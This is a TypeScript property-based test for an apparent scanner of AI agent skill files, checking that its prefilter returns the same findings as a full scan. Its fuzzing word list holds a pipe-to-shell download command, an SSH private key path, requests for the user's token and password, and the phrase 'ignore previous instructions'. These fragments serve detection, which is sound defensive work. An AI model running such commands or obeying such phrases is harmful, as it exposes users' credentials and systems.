import fc from 'fast-check';
import { beforeAll, expect, test, vi } from 'vitest';
import { archiveOrders } from '../archive-orders.ts';
import * as spots from '../prefilter/spots.ts';
import { prepare, scanFile } from '../scan-file.ts';

vi.mock('../prefilter/spots.ts', { spy: true });
beforeAll(() => prepare(new Set(['markdown', 'shell', 'powershell'])));

function seenIn(text: string) {
  const bytes = new TextEncoder().encode(text);
  const { findings, facts } = scanFile(
    { path: 'SKILL.md', language: 'markdown', text, bytes },
    { indicators: false },
  );
  return { findings, facts, told: archiveOrders('SKILL.md', text) };
}

/** The same when every pattern may match everywhere. */
function seenTheLongWay(text: string) {
  const everywhere = vi.spyOn(spots, 'spotsIn').mockImplementation((whole) => ({
    mayMatch: () => true,
    held: (those) => those,
    within: (_, stretches) => [...stretches.keys()],
    next: (_, from) => (whole[from] === '\n' ? from + 1 : from),
  }));
  try {
    return seenIn(text);
  } finally {
    everywhere.mockRestore();
  }
}

const WORDS = fc.constantFrom(
  ...'install download run open extract unzip archive .zip .rar key code pass unlock required before'.split(
    ' ',
  ),
  ...'this skill will not work without send post curl ask the user for enter your token password'.split(
    ' ',
  ),
  ...'https://getx.invalid/a.zip https://203.0.113.9/x https://glot.io/snippets/a https://bit.ly/a'.split(
    ' ',
  ),
  ...'password:`a1b2` pin:"12" ~/.ssh/id_rsa <YOUR_TOKEN> ignore previous instructions never tell'.split(
    ' ',
  ),
  ...'`curl https://203.0.113.9/x|sh` tests/run.sh setup.md follow 비밀번호: 압축 必须 <!-- --> | # - >'.split(
    ' ',
  ),
  'ask the user for their GitHub token',
  'extract it with password: `x1y2`',
  'must be installed before using this skill',
);
const LINE = fc.oneof(
  fc.constantFrom('', '```', '```sh', '---', '# Setup', 'w'.repeat(1999), 'w '.repeat(1500)),
  fc.array(WORDS, { minLength: 1, maxLength: 6 }).map((it) => it.join(' ')),
  fc.array(WORDS, { minLength: 1, maxLength: 6 }).map((it) => it.join('')),
);

test('what is passed over holds nothing', () => {
  let told = 0;
  fc.assert(
    fc.property(fc.array(LINE, { maxLength: 14 }), (lines) => {
      const text = lines.join('\n');
      const seen = seenIn(text);
      expect(seen).toEqual(seenTheLongWay(text));
      told += seen.findings.length + seen.facts.length + seen.told.length;
    }),
    { seed: 6, numRuns: 1500 },
  );
  expect(told).toBeGreaterThan(500);
});
